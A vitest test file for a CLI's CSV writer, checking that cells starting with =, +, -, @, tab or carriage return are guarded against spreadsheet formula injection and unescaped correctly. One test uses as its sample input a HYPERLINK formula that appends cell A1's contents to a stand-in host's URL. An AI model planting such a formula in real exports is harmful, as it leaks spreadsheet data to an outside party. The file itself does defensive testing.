import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { escapeFormula, toCsv, unescapeFormula } from '../src/write/csv.js';
import { cli, tempDir } from './helpers/cli.js';

describe('CSV formula injection', () => {
  it('guards every cell a spreadsheet would run as a formula, and no other', () => {
    // A negative number written as text (a kappa of -0.5000) stays a number.
    expect(toCsv([['=1+1', '+44 7700', '-2 staff', '-0.5000', '@SUM(A1)', '\tx', '\rx', 'plain', "'=kept", "it's", 3, -4]])).toBe(
      `'=1+1,'+44 7700,'-2 staff,-0.5000,'@SUM(A1),'\tx,"'\rx",plain,''=kept,it's,3,-4\n`,
    );
  });

  it('undoes the guard exactly, whatever the cell', () => {
    for (const cell of ['=1', "'=1", "''=1", "'", "'plain", '', '-', "'-", "''", 'a=b']) {
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
    }
  });

  it('writes a hostile account harmlessly and reads it back unchanged with grid', async () => {
    const dir = tempDir();
    const text = '=HYPERLINK("http://x.example/?"&A1,"click")';
    writeFileSync(join(dir, 'in.csv'), `participant,text,site\n@P1,"${text.replace(/"/g, '""')}",-North\n`);
    const out = join(dir, 'out');
    expect((await cli(['analyse', join(dir, 'in.csv'), '--out', out, '--unit', 'line'])).code).toBe(0);
    const segments = readFileSync(join(out, 'segments.csv'), 'utf8');
    expect(segments.split('\n')[1]).toBe(`'@P1,1,0,43,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,EV,,cues:EV +0.37; length:1-3 +0.17; cues:OR=0 +0.17,,,'-North`);
    expect(readFileSync(join(out, 'participants.csv'), 'utf8')).toContain(`\n'@P1,1,`);
    const grid = await cli(['grid', join(out, 'segments.csv'), '--participant', '@P1']);
    expect(grid.stdout).toBe(`| Participant @P1 | Theme | Application of Labov |\n| --- | --- | --- |\n| ${text.replace("&A1", "&amp;A1")} |  | EV |\n`);
  });
});

describe('only files reflect-code wrote are unescaped', () => {
  const texts = ["'-ish' is how I felt.", "'=SUM(A1) is a formula I typed.", '=1+1 is how staff see it.'];

  /** The texts of segments.csv, read back as tabulate reads them. */
  function segmentTexts(file: string): string[] {
    return readFileSync(file, 'utf8').split('\n').slice(1, -1).map((row) => row.split(',')[4]);
  }

  it('an input CSV keeps a leading apostrophe (as a .txt does), and segments.csv and a redacted copy give it back', async () => {
    const dir = tempDir();
    const input = join(dir, 'accounts.csv');
    writeFileSync(input, `participant,text\n${texts.map((text, i) => `A${i + 1},${text}`).join('\n')}\n`);
    const out = join(dir, 'out');
    expect((await cli(['analyse', input, '--out', out, '--unit', 'sentence', '--no-report', '--quiet', '--no-check'])).code).toBe(0);
    // Written guarded: one more apostrophe before each, which reading back removes.
    expect(segmentTexts(join(out, 'segments.csv'))).toEqual(["''-ish' is how I felt.", "''=SUM(A1) is a formula I typed.", "'=1+1 is how staff see it."]);
    const grid = await cli(['grid', join(out, 'segments.csv'), '--participant', 'A1']);
    expect(grid.stdout).toContain(`| ${texts[0]} |`);
    const tabulated = await cli(['tabulate', join(out, 'segments.csv'), '--out', join(dir, 'tables'), '--accounts', input, '--no-report']);
    expect([tabulated.code, tabulated.stderr]).toEqual([0, '']);

    const redacted = join(dir, 'redacted');
    expect((await cli(['check', input, '--redact', '--out', redacted, '--quiet'])).code).toBe(0);
    const again = join(dir, 'again');
    expect((await cli(['analyse', join(redacted, 'accounts.csv'), '--out', again, '--unit', 'sentence', '--no-report', '--quiet', '--no-check'])).code).toBe(0);
    expect(readFileSync(join(again, 'segments.csv'), 'utf8')).toBe(readFileSync(join(out, 'segments.csv'), 'utf8'));
  });
});
